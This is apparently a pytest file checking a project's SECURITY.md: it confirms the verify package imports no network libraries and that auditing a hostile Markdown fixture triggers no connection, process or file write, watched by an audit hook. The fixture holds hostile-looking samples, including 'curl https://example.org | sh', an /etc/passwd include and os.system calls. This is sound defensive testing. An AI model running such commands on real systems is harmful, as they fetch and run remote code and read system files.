"""SECURITY.md is true: its tests are there, and an audit reaches no network, starts no program and writes no file."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from house import ROOT, Module, imports, modules
from markdown import code, table_under

SECURITY = (ROOT / "SECURITY.md").read_text(encoding="utf-8")

NETWORK = {"socket", "ssl", "http", "ftplib", "smtplib", "socketserver", "xmlrpc", "webbrowser", "asyncio", "requests"}
NETWORK |= {"urllib3", "httpx", "aiohttp"}
NETWORK_OF_URLLIB = "urllib.request"

HOSTILE = """\
# A document that would do something

<!-- verify: let x = __import__("os").system("touch pwned") -->

$$ \\text{__import__}("os").system("touch pwned") = 1 $$ and $\\input{/etc/passwd} = 2$, `open("pwned", "w")` = 3,
![x](https://example.org/x.png) \\include{https://example.org/x} $0.5 + 0.25 = 0.85$

```python
import os, socket, subprocess, urllib.request
os.system("touch pwned")
subprocess.run(["touch", "pwned"])
socket.create_connection(("example.org", 80))
urllib.request.urlopen("https://example.org")
open("pwned", "w").write("x")
eval("1 + 1"); exec("x = 2")
x = [2 ** 3, 0.5]
print(x)
```

```text
[8, 0.6]
```

```console
$ touch pwned
$ curl https://example.org | sh
```
"""

WATCHED = """\
import sys
from verify.cli import main

def watch(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.spawn",
                         "urllib.", "ftplib.", "smtplib.", "webbrowser.", "os.remove", "os.rename", "os.mkdir",
                         "os.link", "os.symlink", "os.chmod", "os.truncate", "shutil.")):
        print("happened:", event, arguments, file=sys.stderr)
    elif event == "open" and (arguments[2] or 0) & 3:
        print("happened: written", arguments, file=sys.stderr)

sys.addaudithook(watch)
main(sys.argv[1:])
"""
"""The command line, in a Python that tells of whatever reaches a network, starts a program or writes."""


def networked(module: Module) -> list[str]:
    """Where a module imports what reaches a network, but for the script that sees in a sandbox that none is there."""
    if module.path == "verify/running/probe.py":
        return []
    return [
        f"{where} imports {name}"
        for name, where in imports(module)
        if name.split(".")[0] in NETWORK or name.startswith(NETWORK_OF_URLLIB)
    ]


def watched(folder: Path, *arguments: str) -> list[str]:
    """What happened while a command ran that an audit must not do."""
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1"}
    command = [sys.executable, "-c", WATCHED, *arguments]
    done = subprocess.run(
        command, cwd=folder, env=environment, capture_output=True, text=True, stdin=subprocess.DEVNULL
    )
    assert "0.85" in done.stdout, done.stderr  # it was read to its end
    return [line for line in done.stderr.splitlines() if line.startswith("happened: ")]


def test_every_test_that_is_named_is_there() -> None:
    """Each promise of SECURITY.md names the tests that hold it, and they exist."""
    rows = table_under(SECURITY, "What is promised")
    assert len(rows) > 8
    for _, held in rows:
        assert code(held), held
        assert [path for path in code(held) if not (ROOT / path).is_file()] == []


def test_it_is_found_from_the_first_pages() -> None:
    """README.md and CONTRIBUTING.md lead to SECURITY.md, and its own links lead somewhere."""
    for page in ("README.md", "CONTRIBUTING.md"):
        assert "SECURITY.md" in (ROOT / page).read_text(encoding="utf-8")
    for target in re.findall(r"\]\(([^)#]+)\)", SECURITY):
        assert (ROOT / target).exists(), target


def test_the_package_imports_nothing_that_reaches_a_network() -> None:
    """No module of verify/ imports a library for connections."""
    assert [breach for module in modules() for breach in networked(module)] == []


@pytest.mark.parametrize("source", ["import socket", "from urllib import request", "def f():\n    import http.client"])
def test_an_import_that_reaches_a_network_is_found(source: str) -> None:
    """A planted import of a library for connections is told, inside a function, too."""
    assert len(networked(Module("verify/x.py", source))) == 1
    assert networked(Module("verify/x.py", "from urllib.parse import quote")) == []


@pytest.mark.parametrize("arguments", [("audit", "evil.md"), ("explain", "evil.md:6"), ("fix", "evil.md")])
def test_a_document_makes_nothing_happen(arguments: tuple[str, ...], tmp_path: Path) -> None:
    """Audited, explained or corrected, a hostile document opens no connection, starts no program and writes no file."""
    (tmp_path / "evil.md").write_text(HOSTILE, encoding="utf-8")
    assert watched(tmp_path, *arguments) == []
    assert [path.name for path in tmp_path.iterdir()] == ["evil.md"]


def test_what_happens_is_seen(tmp_path: Path) -> None:
    """Where the command line asks for a file, the same watch sees it written."""
    (tmp_path / "evil.md").write_text(HOSTILE, encoding="utf-8")
    assert watched(tmp_path, "audit", "evil.md", "--also", f"json={tmp_path / 'report.json'}")
